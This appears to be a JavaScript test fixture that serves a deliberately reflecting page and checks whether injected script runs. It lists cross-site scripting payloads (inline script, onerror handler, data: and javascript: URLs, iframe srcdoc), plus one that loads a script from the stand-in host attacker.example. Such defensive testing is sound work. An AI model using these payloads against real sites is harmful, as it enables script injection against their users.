// A page of our own that reflects what it is asked, script and all.
import { fileURLToPath } from 'node:url'
import { serving, start } from '../rig/process.mjs'

const program = fileURLToPath(new URL('server.mjs', import.meta.url))

export const path = '/?name=visitor'

export async function serve(t, home, port) {
  const running = start(t, process.execPath, [program, String(port)], { env: { PATH: process.env.PATH } })
  await serving(running, port, 'the reflecting page')
}

// use finds the page working: its own script ran.
export async function use(page) {
  await page.locator('#greeting', { hasText: 'Hello visitor' }).waitFor()
  await page.locator('#own', { hasText: 'the page works' }).waitFor()
}

// elsewhere is a host that no rule of the browser leads to.
export const elsewhere = 'attacker.example'

// attacks are values of the parameter, each of which sets a mark if its script
// runs.
export const attacks = {
  'a script': '<script>window.taken = true</script>',
  'an event handler': '<img src=x onerror="window.taken = true">',
  'a script of another host': `<script src="https://${elsewhere}/x.js"></script>`,
  'a data: script': '<script src="data:text/javascript,window.taken=true"></script>',
  'a frame with a document of its own': '<iframe srcdoc="<script>parent.taken = true</script>"></iframe>',
  'a script address': '<iframe src="javascript:parent.taken=true"></iframe>',
}
